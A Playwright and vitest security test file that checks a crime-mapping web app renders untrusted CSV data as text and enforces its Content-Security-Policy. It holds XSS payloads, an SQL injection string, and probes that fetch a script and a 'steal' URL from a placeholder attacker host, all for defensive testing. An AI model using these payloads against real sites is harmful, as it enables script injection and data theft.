/**
 * Issue 7, item 3 (security):
 * - no source file builds HTML from strings ({@html}, innerHTML, outerHTML, insertAdjacentHTML,
 *   document.write, srcdoc): every string from data is rendered as text;
 * - a file whose every text field and column name is an XSS payload is imported through the UI and
 *   every view that shows data is visited (column dialog, validation report, rejected-rows
 *   download, offence filter, charts, map tooltip, incident points and their legend, analysis
 *   tabs, the error banner, the data-set label): nothing executes, no dialog opens, no element or
 *   event-handler attribute is injected, and the payloads appear as plain text;
 * - the built app runs under its Content-Security-Policy without a single violation (demo, map,
 *   engine worker), and the policy really blocks foreign scripts and plain-http connections.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import fs from 'node:fs';
import path from 'node:path';
import { ROOT, openApp } from './harness';

// ------------------------------------------------------------------ static check of the source

/** Ways to turn a string into markup or code in the browser; none may appear in src/. */
const HTML_SINKS = [/\{@html\b/, /\.innerHTML\b/, /\.outerHTML\b/, /insertAdjacentHTML/, /document\.write/, /\bsrcdoc\b/, /createContextualFragment/, /\bnew Function\s*\(/, /\beval\s*\(/, /\.setHTMLUnsafe\b/];

function sourceFiles(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    return e.isDirectory() ? sourceFiles(p) : /\.(svelte|ts|js|html)$/.test(e.name) ? [p] : [];
  });
}

describe('source code', () => {
  it('never builds HTML or code from strings anywhere in src/ (no allow-list)', () => {
    const files = sourceFiles(path.join(ROOT, 'src'));
    expect(files.length).toBeGreaterThan(20);
    const hits: string[] = [];
    for (const f of files) {
      const lines = fs.readFileSync(f, 'utf8').split('\n');
      lines.forEach((l, i) => {
        for (const re of HTML_SINKS) if (re.test(l)) hits.push(`${path.relative(ROOT, f)}:${i + 1}: ${l.trim()}`);
      });
    }
    expect(hits).toEqual([]);
  });
});

// ------------------------------------------------------------------ the hostile file

/** Each payload sets window.__xss (or opens a dialog) if it ever runs. */
const PAYLOADS = [
  `<img src=x onerror="window.__xss='img'">`,
  `<script>window.__xss='script'</script>`,
  `"><svg onload=window.__xss='svg'>`,
  `'><iframe srcdoc="<script>parent.__xss='iframe'</script>">`,
  `<details open ontoggle="window.__xss='details'">`,
  `javascript:window.__xss='href'`,
  `<a href="javascript:window.__xss='a'">x</a>`,
  `{@html '<b onmouseover=window.__xss=1>'}`,
  `\${alert('template')}`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss='mxss'">`,
  `<input autofocus onfocus="window.__xss='focus'">`,
  `<style>@import 'http://evil.invalid/x.css';</style>`,
];
const COLUMNS = {
  id: `<img src=x onerror="window.__xss='col-id'"> id`,
  date: `"><svg onload=window.__xss='col-date'> date`,
  lat: `<script>window.__xss='col-lat'</script>`,
  lon: `'; DROP TABLE incidents; -- <b>lon</b>`,
  offence: `<details open ontoggle="window.__xss='col-offence'"> offence`,
  address: `javascript:alert('col-address')`,
};
const FILE_NAME = `<img src=x onerror="window.__xss='file'">.csv`;

const q = (s: string) => '"' + s.replaceAll('"', '""') + '"';

/** 36 rows: 33 kept; one without coordinates, one with a payload for a date, one repeated id. */
function hostileCsv(): string {
  const lines = [Object.values(COLUMNS).map(q).join(',')];
  for (let i = 0; i < 36; i++) {
    const id = i === 35 ? `${PAYLOADS[0]}#0` : `${PAYLOADS[i % PAYLOADS.length]}#${i}`;
    const date = i === 34 ? PAYLOADS[1] : `2021-0${1 + (i % 9)}-${String(1 + (i % 27)).padStart(2, '0')} ${String(i % 24).padStart(2, '0')}:15:00`;
    const lat = i === 33 ? '' : (41.85 + (i % 6) * 0.002).toFixed(5);
    const lon = i === 33 ? '' : (-87.65 - Math.floor(i / 6) * 0.002).toFixed(5);
    lines.push([id, date, lat, lon, PAYLOADS[i % 6], PAYLOADS[(i + 3) % PAYLOADS.length]].map(q).join(','));
  }
  return lines.join('\r\n') + '\r\n';
}

// ------------------------------------------------------------------ browser

let app: Awaited<ReturnType<typeof openApp>>;
let page: Page;
const dialogs: string[] = [];
const requests: string[] = [];
/** Requests the browser refused to make, with why (the CSP probes below end here). */
const failed = new Map<string, string>();
const pageErrors: string[] = [];

/** Everything that would show a payload ran, or was injected as markup rather than text. */
async function injected(p: Page) {
  return p.evaluate(() => {
    const w = window as unknown as { __xss?: unknown };
    const all = [...document.querySelectorAll('*')];
    return {
      xss: w.__xss ?? null,
      onAttributes: all.flatMap((el) => [...el.attributes].filter((a) => a.name.toLowerCase().startsWith('on')).map((a) => `${el.tagName}[${a.name}]`)),
      elements: document.querySelectorAll('img[src="x"], iframe, details[ontoggle], mglyph, svg[onload], input[autofocus], a[href^="javascript"], b').length,
      scripts: [...document.scripts].filter((s) => !s.src).length,
    };
  });
}

beforeAll(async () => {
  app = await openApp();
  const ctx = await app.browser.newContext({ viewport: { width: 1400, height: 900 }, acceptDownloads: true });
  await ctx.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  ctx.on('request', (r) => requests.push(r.url()));
  ctx.on('requestfailed', (r) => failed.set(r.url(), r.failure()?.errorText ?? ''));
  page = await ctx.newPage();
  page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
  page.on('pageerror', (e) => pageErrors.push(e.message));
  await page.goto(app.origin + '/');
  await page.waitForSelector('[data-testid=map][data-ready=true]', { timeout: 120_000 });
  await page.waitForSelector('[data-testid=chart-offences] svg', { timeout: 60_000 });
});

afterAll(async () => {
  await app?.close();
});

describe('Content-Security-Policy', () => {
  it('is set by the page and allows only its own origin for code, plus https: for an online base map', async () => {
    const csp = (await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content')) ?? '';
    const dir = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v]));
    expect(dir['default-src']).toEqual(["'self'"]);
    expect(dir['object-src']).toEqual(["'none'"]);
    expect(dir['base-uri']).toEqual(["'self'"]);
    expect(dir['form-action']).toEqual(["'none'"]);
    for (const k of ['script-src', 'worker-src', 'connect-src', 'img-src', 'style-src', 'font-src']) {
      expect(dir[k], k).toContain("'self'");
      expect(dir[k], k).not.toContain('*');
      expect(dir[k], k).not.toContain('http:');
      expect(dir[k], k).not.toContain("'unsafe-eval'");
    }
    // Code only from this origin (wasm compiled from this origin's files).
    expect(dir['script-src'].filter((s: string) => !["'self'", "'unsafe-inline'", "'wasm-unsafe-eval'"].includes(s) && !s.startsWith("'sha256-"))).toEqual([]);
    expect(dir['worker-src']).toEqual(["'self'", 'blob:']);
  });

  it('runs the demo, the map and the engine worker without a single violation', async () => {
    expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
    expect(Number(await page.getAttribute('[data-testid=total-count]', 'data-count'))).toBeGreaterThan(1000);
    expect(pageErrors).toEqual([]);
  });

  it('blocks a foreign script, a plain-http connection and a plugin', async () => {
    const blocked = await page.evaluate(async () => {
      const w = window as unknown as { __csp: string[] };
      const s = document.createElement('script');
      s.src = 'https://example.invalid/evil.js';
      document.head.append(s);
      const o = document.createElement('object');
      o.data = '/favicon.svg';
      document.body.append(o);
      let fetched = 'allowed';
      try {
        await fetch('http://example.invalid/steal');
      } catch {
        fetched = 'blocked';
      }
      await new Promise((r) => setTimeout(r, 300));
      s.remove();
      o.remove();
      return { fetched, violations: w.__csp.splice(0) };
    });
    expect(blocked.fetched).toBe('blocked');
    expect(blocked.violations.join(' | ')).toMatch(/script-src(-elem)? https:\/\/example\.invalid\/evil\.js/);
    expect(blocked.violations.join(' | ')).toMatch(/connect-src http:\/\/example\.invalid\/steal/);
    expect(blocked.violations.join(' | ')).toMatch(/object-src/);
    // The browser may announce the script request, but the policy stops it before the network.
    for (const u of requests.filter((x) => x.includes('example.invalid'))) expect(failed.get(u), u).toMatch(/^csp$|BLOCKED_BY_CSP/);
  });
});

describe('a file made of XSS payloads', () => {
  it('shows every payload as text in the column dialog, and imports when the roles are chosen', async () => {
    await page.setInputFiles('[data-testid=file-input]', { name: FILE_NAME, mimeType: 'text/csv', buffer: Buffer.from(hostileCsv()) });
    await page.waitForSelector('[data-testid=column-dialog][open]');
    const dialogText = await page.locator('[data-testid=column-dialog]').innerText();
    expect(dialogText).toContain(FILE_NAME);
    const options = await page.locator('[data-testid=role-lat] option').allTextContents();
    for (const c of Object.values(COLUMNS)) expect(options.some((o) => o.startsWith(c))).toBe(true);
    for (const [role, col] of [['id', COLUMNS.id], ['datetime', COLUMNS.date], ['lat', COLUMNS.lat], ['lon', COLUMNS.lon], ['offence', COLUMNS.offence], ['location', COLUMNS.address]] as const)
      await page.selectOption(`[data-testid=role-${role}]`, col);
    expect(await page.locator('[data-testid=role-lat] ~ .sample').innerText().catch(() => '')).not.toContain('<script');
    expect(await injected(page)).toMatchObject({ xss: null, onAttributes: [], elements: 0 });
    await page.click('[data-testid=confirm-import]');
    await page.waitForSelector('[data-testid=validation-report][open]', { timeout: 60_000 });
  });

  it('reports the rows with the file name as text, and downloads the rejected rows verbatim', async () => {
    const report = page.locator('[data-testid=validation-report]');
    expect(await report.innerText()).toContain(FILE_NAME);
    expect(await page.textContent('[data-testid=report-kept]')).toBe('33');
    expect(await page.textContent('[data-testid=report-rejected-no_coordinates]')).toBe('1');
    expect(await page.textContent('[data-testid=report-rejected-unparseable_date]')).toBe('1');
    expect(await page.textContent('[data-testid=report-rejected-duplicate_id]')).toBe('1');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid=download-rejected]')]);
    const csv = fs.readFileSync((await download.path())!, 'utf8');
    // Every column name, quoted by CSV rules where it holds a quote or a comma.
    for (const c of Object.values(COLUMNS)) expect(csv.includes(`,${c},`) || csv.startsWith(`${c},`) || csv.includes(q(c)), c).toBe(true);
    expect(csv).toContain(PAYLOADS[1]);
    expect(csv.trim().split(/\r?\n/).length).toBe(4);
    expect(await injected(page)).toMatchObject({ xss: null, onAttributes: [], elements: 0 });
    await page.keyboard.press('Escape');
    await page.waitForSelector('[data-testid=validation-report]', { state: 'detached' });
  });

  it('shows the offences as text in the filter list, the charts and the header', async () => {
    await page.waitForFunction(() => document.querySelector('[data-testid=total-count]')?.getAttribute('data-count') === '33', null, { timeout: 30_000 });
    const names = await page.locator('[data-testid=offence-list] .name').allTextContents();
    expect(names.sort()).toEqual(PAYLOADS.slice(0, 6).sort());
    expect(await page.textContent('[data-testid=dataset-label]')).toContain(FILE_NAME);
    await page.waitForSelector('[data-testid=chart-offences] svg');
    const chart = await page.locator('[data-testid=chart-offences]').innerText();
    expect(chart).toMatch(/<img src=x|<script>|"><svg/);
    // Untick one offence and tick it again: the filter round-trips a payload through SQL.
    const first = page.locator('[data-testid=offence-list] li').first();
    const n = Number((await first.locator('.count').textContent())!.replace(/\D/g, ''));
    await first.locator('input[type=checkbox]').uncheck();
    await page.waitForFunction((k) => document.querySelector('[data-testid=total-count]')?.getAttribute('data-count') === String(33 - k), n, { timeout: 30_000 });
    await first.locator('input[type=checkbox]').check();
    await page.waitForFunction(() => document.querySelector('[data-testid=total-count]')?.getAttribute('data-count') === '33', null, { timeout: 30_000 });
    expect(await injected(page)).toMatchObject({ xss: null, onAttributes: [], elements: 0 });
  });

  it('shows the map tooltip and, zoomed in, the points and their legend as text', async () => {
    await page.click('button:text-is("Zoom to data")');
    await page.waitForTimeout(800);
    const box = (await page.locator('[data-testid=map]').boundingBox())!;
    let tip = false;
    for (let dx = -60; dx <= 60 && !tip; dx += 20)
      for (let dy = -60; dy <= 60 && !tip; dy += 20) {
        await page.mouse.move(box.x + box.width / 2 + dx, box.y + box.height / 2 + dy);
        await page.waitForTimeout(60);
        tip = await page.locator('[data-testid=cell-tooltip]').isVisible();
      }
    expect(tip).toBe(true);
    for (let i = 0; i < 6 && !(await page.locator('[data-testid=points-legend]').isVisible()); i++) {
      await page.click('.maplibregl-ctrl-zoom-in');
      await page.waitForTimeout(700);
    }
    await page.waitForSelector('[data-testid=points-legend]', { timeout: 30_000 });
    const legend = await page.locator('[data-testid=points-legend]').innerText();
    expect(PAYLOADS.slice(0, 6).some((p) => legend.includes(p))).toBe(true);
    expect(await injected(page)).toMatchObject({ xss: null, onAttributes: [], elements: 0 });
  });

  it('shows nothing executable in the analysis tabs, the error banner or anywhere else', async () => {
    for (const tab of await page.locator('[role=tab]').all()) {
      await tab.click();
      await page.waitForTimeout(300);
    }
    await page.click('[data-testid=tab-charts]').catch(() => {});
    await page.setInputFiles('[data-testid=file-input]', { name: `<svg onload="window.__xss='banner'">.csv`, mimeType: 'text/csv', buffer: Buffer.alloc(0) });
    await page.waitForSelector('[data-testid=error]');
    expect(await page.textContent('[data-testid=error]')).toContain(`<svg onload="window.__xss='banner'">.csv`);
    await page.click('[data-testid=error] button');
    await page.click('[data-testid=open-report]');
    await page.waitForSelector('[data-testid=validation-report][open]');
    await page.keyboard.press('Escape');
    await page.waitForTimeout(500);
    const final = await injected(page);
    expect(final).toEqual({ xss: null, onAttributes: [], elements: 0, scripts: 1 });
    expect(dialogs).toEqual([]);
    expect(pageErrors).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
  });

  it('made no request to any host but its own', () => {
    expect(requests.length).toBeGreaterThan(5);
    const foreign = requests.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== app.origin);
    // Only the deliberate probe of the CSP test, which the policy blocked.
    expect(foreign.filter((u) => !/^csp$|BLOCKED_BY_CSP/.test(failed.get(u) ?? ''))).toEqual([]);
  });
});
